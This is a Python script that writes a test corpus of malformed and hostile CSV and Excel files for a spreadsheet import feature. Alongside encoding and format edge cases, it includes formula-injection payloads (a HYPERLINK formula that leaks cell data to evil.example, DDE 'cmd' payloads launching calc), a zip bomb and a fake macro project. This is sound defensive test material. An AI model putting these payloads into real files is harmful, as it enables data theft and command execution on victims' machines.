"""Writes the hostile-file corpus. Run by hand (LibreOffice is needed for the cached formula values);
the files it writes are committed, so tests and CI never run it.

    .venv/bin/python hub/core/tests/corpus/make_corpus.py
"""

import datetime
import io
import shutil
import subprocess
import tempfile
import zipfile
from pathlib import Path

import openpyxl
from openpyxl.styles import Font

HERE = Path(__file__).resolve().parent
HEADER = ["Spender", "Datum", "Kategorie", "Beschreibung", "Wert", "Währung"]
ROWS = [
    ["Museum Wien", "01.03.2024", "Raum", "Saal für den Workshop", "1.234,56", "EUR"],
    ["Bäckerei Müller", "15.03.2024", "Verpflegung", "Kaffee und Kuchen", "89,90", "EUR"],
    ["Библиотека Москвы", "2024-04-02", "Ehrenamt", "Führung", "300", "EUR"],
]


def text(name: str, content: str, encoding: str = "utf-8", newline: str = "\r\n") -> None:
    (HERE / name).write_bytes(content.replace("\n", newline).encode(encoding))


def csv_text(rows, delimiter=",") -> str:
    import csv

    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\n")
    writer.writerows(rows)
    return out.getvalue()


def libreoffice(source: Path, fmt: str, target: Path) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        subprocess.run(  # noqa: S603
            ["soffice", "--headless", "--convert-to", fmt, "--outdir", tmp, str(source)],  # noqa: S607
            check=True,
            capture_output=True,
        )
        produced = next(Path(tmp).iterdir())
        shutil.move(produced, target)


def office_workbook(path: Path) -> None:
    """A sheet the way a chapter's office writes one: title rows, merged cells, formulas, a total."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Sachspenden 2024"
    ws["A1"] = "Wikimedia Testland – Sachspenden 2024"
    ws["A1"].font = Font(bold=True, size=14)
    ws.merge_cells("A1:H1")
    ws["A2"] = "Stand: 31.12.2024, erstellt von der Geschäftsstelle"
    ws.merge_cells("A2:H2")
    ws.append([])
    ws.append(
        ["Spender", "Datum", "Kategorie", "Beschreibung", "Menge", "Einheit", "Wert", "Währung"]
    )
    ws.append(
        [
            "Österreichische Nationalbibliothek",
            "01.03.2024",
            "Raum",
            "Saal",
            2,
            "Tage",
            "1.200,00",
            "EUR",
        ]
    )
    ws.append(
        [
            "Bäckerei Müller",
            datetime.date(2024, 3, 15),
            "Verpflegung",
            "Kaffee",
            25,
            "Personen",
            "=E6*4.5",
            "EUR",
        ]
    )
    ws.append(
        ["Bäckerei Müller", 45380, "Verpflegung", "Mittagessen", 25, "Personen", "=E7*12", "EUR"]
    )
    ws.append(
        ["Ehrenamtliche", "2024-05-04", "Ehrenamt", "Fotowanderung", 40, "Stunden", "=E8*20", "EUR"]
    )
    ws.merge_cells("A8:A9")
    ws.append([None, "5. Mai 2024", "Ehrenamt", "Nachbearbeitung", 12, "Stunden", "=E9*20", "EUR"])
    ws.append(
        ["Музей истории Киева", "1/6/2024", "Lizenz", "Bildrechte", None, None, "€ 2.500", "EUR"]
    )
    ws.append([])
    ws.append(["Summe", None, None, None, None, None, "=SUM(G5:G10)", "EUR"])
    wb.save(path)


def main() -> None:
    header_rows = [HEADER, *ROWS]
    text("utf8.csv", csv_text(header_rows))
    text("utf8_bom.csv", "\ufeff" + csv_text(header_rows, ";"))
    text("cp1252.csv", csv_text(header_rows[:3], ";"), encoding="cp1252")
    text("utf16_bom_tabs.csv", "\ufeff" + csv_text(header_rows, "\t"), encoding="utf-16-le")
    text(
        "quoted_newlines.csv",
        csv_text(
            [
                HEADER,
                ["Museum Wien", "01.03.2024", "Raum", 'Saal,\nzweiter Stock\n"Ost"', "10", "EUR"],
                ROWS[1],
            ]
        ),
    )
    text("duplicate_headers.csv", csv_text([["Spender", "Wert", "wert"], ["A", "1", "2"]]))
    text("missing_header.csv", csv_text([["Spender", "", "Wert"], ["A", "oops", "2"]]))
    text(
        "huge_cell.csv",
        csv_text([HEADER, ["A", "01.03.2024", "Raum", "x" * 1_048_576, "1", "EUR"], ROWS[1]]),
    )
    text(
        "formula_payloads.csv",
        csv_text(
            [
                HEADER,
                [
                    '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
                    "01.03.2024",
                    "Raum",
                    "x",
                    "1",
                    "EUR",
                ],
                ["Museum", "01.03.2024", "Raum", "=cmd|' /C calc'!A0", "1", "EUR"],
                ["Museum", "01.03.2024", "Raum", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "EUR"],
                ROWS[1],
            ]
        ),
    )
    text(
        "title_and_total.csv",
        csv_text(
            [["Sachspenden 2024"], [], HEADER, *ROWS, [], ["Summe", "", "", "", "1.624,46", ""]],
            ";",
        ),
    )
    (HERE / "empty.csv").write_bytes(b"")
    (HERE / "empty.xlsx").write_bytes(b"")
    text("blank_lines.csv", "\n\n ; ; \n")
    (HERE / "html_as.xlsx").write_bytes(
        b"<!DOCTYPE html><html><body><table><tr><td>Spender</td><td>Wert</td></tr></table></body></html>"
    )
    (HERE / "xls_as.xlsx").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2000)
    (HERE / "png_as.csv").write_bytes(
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4
    )

    # A real workbook, then the same with a macro project inside (named .xlsx and .xlsm).
    wb = openpyxl.Workbook()
    wb.active.append(HEADER)
    for row in ROWS:
        wb.active.append(row)
    plain = HERE / "plain_openpyxl.xlsx"
    wb.save(plain)
    for name in ("macro_inside.xlsx", "macro.xlsm"):
        with (
            zipfile.ZipFile(plain) as src,
            zipfile.ZipFile(HERE / name, "w", zipfile.ZIP_DEFLATED) as dst,
        ):
            for info in src.infolist():
                dst.writestr(info, src.read(info))
            dst.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0fake VBA project")

    # A zip bomb named .xlsx: 60 MB of zeros packed into ~60 KB.
    with zipfile.ZipFile(
        HERE / "zip_bomb.xlsx", "w", zipfile.ZIP_DEFLATED, compresslevel=9
    ) as bomb:
        with zipfile.ZipFile(plain) as src:
            for info in src.infolist():
                if info.filename != "xl/worksheets/sheet1.xml":
                    bomb.writestr(info, src.read(info))
        with bomb.open("xl/worksheets/sheet1.xml", "w") as sheet:
            chunk = b"\x00" * (1 << 20)
            for _ in range(60):
                sheet.write(chunk)

    # Formulas written by a library are saved without their computed values.
    wb = openpyxl.Workbook()
    wb.active.append(["Spender", "Datum", "Kategorie", "Wert", "Währung"])
    wb.active.append(["Museum", "01.03.2024", "Raum", "=2*50", "EUR"])
    wb.save(HERE / "uncached_formula.xlsx")

    # The office workbook, saved by LibreOffice so formulas carry their computed values.
    with tempfile.TemporaryDirectory() as tmp:
        draft = Path(tmp) / "office.xlsx"
        office_workbook(draft)
        libreoffice(draft, "xlsx:Calc MS Excel 2007 XML", HERE / "office.xlsx")
        libreoffice(draft, "ods", HERE / "office.ods")


if __name__ == "__main__":
    main()
